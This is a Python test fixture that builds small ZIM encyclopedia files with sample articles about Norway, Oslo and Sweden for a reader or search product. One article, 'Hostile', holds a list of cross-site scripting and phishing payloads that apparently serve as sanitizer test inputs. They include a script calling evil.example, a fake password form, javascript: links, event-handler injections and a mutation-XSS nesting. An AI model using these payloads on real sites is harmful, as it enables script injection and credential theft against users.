"""Small encyclopedias for tests: ZIM files made in a tenth of a second by the product's own builder."""

import struct
import zlib
from collections.abc import Callable
from datetime import date
from pathlib import Path
from urllib.parse import quote

from humaneval.encyclopedia.base import Addresses, Result
from humaneval.encyclopedia.zim_writer import NewArticle, build

DATE = date(2023, 11, 20)
NAME = "Encyclopedia of the tests of 20 November 2023"


def _asked_for(name: str) -> Callable[[str], str]:
    return lambda path: f"?{name}={quote(path, safe='')}"


AT = Addresses(
    article=_asked_for("path"), link=_asked_for("path"), image=_asked_for("image"), outside=lambda address: address
)
"""The addresses of a page with nothing but an article."""


def text_of(result: Result) -> str:
    """The matching text of a search result."""
    return "".join(piece.text for piece in result.pieces)


def png(width: int = 2, height: int = 2) -> bytes:
    """A grey picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


HOSTILE = """
<script>document.title = "owned"; fetch("https://evil.example/")</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>body { display: none }</style>
<form action="https://evil.example/" method="post"><label>Password <input name="password"></label>
<button>Sign in again</button></form>
<p onclick="alert(1)" style="position:fixed;inset:0" class="page-header">Hostile <b onmouseover="alert(2)">text</b>.</p>
<p><a href="javascript:alert(3)">script link</a> <a href="data:text/html,<script>alert(4)</script>">data link</a>
<a href="https://elsewhere.example/page" target="_top">outer link</a> <a href="Norway">inner link</a></p>
<img src="x" onerror="alert(5)"><iframe src="https://evil.example/"></iframe>
<svg onload="alert(6)"><a xlink:href="javascript:alert(7)"><text>picture</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(8)></style></mglyph></table></mtext></math>
<div id="answer" class="modal">An element with the page's own id.</div>
<h2 id="Next">Next</h2><p>After <i>all that, unclosed
"""
GIANT_TABLE = (
    "<table class='wikitable'>"
    + "".join("<tr>" + "".join(f"<td>{row}·{column}</td>" for column in range(60)) + "</tr>" for row in range(300))
    + "</table>"
)

ARTICLES = (
    NewArticle(
        "Norway",
        "<p><b>Norway</b> is a country in Northern Europe. Its capital is <a href='Oslo'>Oslo</a>.</p>"
        "<table class='infobox'><tr><th>Capital</th><td><a href='Oslo'>Oslo</a></td></tr>"
        "<tr><th>Population</th><td>5,550,203</td></tr></table>"
        "<h2 id='History'>History</h2><p>The union with <a href='Sweden'>Sweden</a> was dissolved in 1905. "
        "More is told <a href='https://en.wikipedia.org/wiki/Union'>elsewhere</a>.</p>"
        "<h2 id='Cities'>Cities</h2><h3 id='Large'>Large</h3><ul><li><a href='Oslo#History'>Oslo</a></li>"
        "<li>Bergen</li><li>Trondheim</li></ul>"
        "<p><img src='images/flag.png' alt='The flag' width='2' height='2'></p>",
        page_id=21241,
        revision_id=1185838593,
        url="https://en.wikipedia.org/wiki/Norway",
    ),
    NewArticle(
        "Oslo",
        "<p><b>Oslo</b> is the capital of <a href='Norway'>Norway</a>. It lies at the head of a fjord.</p>"
        "<h2 id='History'>History</h2><p>Founded as a settlement around the year 1000.</p>",
        page_id=22309,
        revision_id=1185000000,
        url="https://en.wikipedia.org/wiki/Oslo",
    ),
    NewArticle(
        "Sweden",
        "<p><b>Sweden</b> is a country in Northern Europe. Its capital is Stockholm.</p>",
        page_id=5058739,
        revision_id=1185000001,
        url="https://en.wikipedia.org/wiki/Sweden",
    ),
    NewArticle("AC/DC (band?)", "<p>A band of <a href='../Norway'>no</a> country here.</p>"),
    NewArticle("Hostile", HOSTILE, page_id=666, revision_id=667),
    NewArticle("Giant table", GIANT_TABLE),
)


def small_zim(file: Path, *more: NewArticle) -> Path:
    """Writes an encyclopedia of `ARTICLES` and more, with a redirect from "Kingdom of Norway" and a picture."""
    build(
        file,
        (*ARTICLES, *more),
        title="Encyclopedia of the tests",
        made=DATE,
        redirects={"Kingdom of Norway": "Norway"},
        images=[("images/flag.png", png(), "image/png"), ("images/bad.png", b"<svg/>", "image/png")],
    )
    return file


def small_encyclopedia(directory: Path, *more: NewArticle) -> str:
    """The address of a small encyclopedia, made in a directory: for ``ENCYCLOPEDIA`` or a study."""
    return f"zim:{small_zim(directory / 'encyclopedia.zim', *more)}"
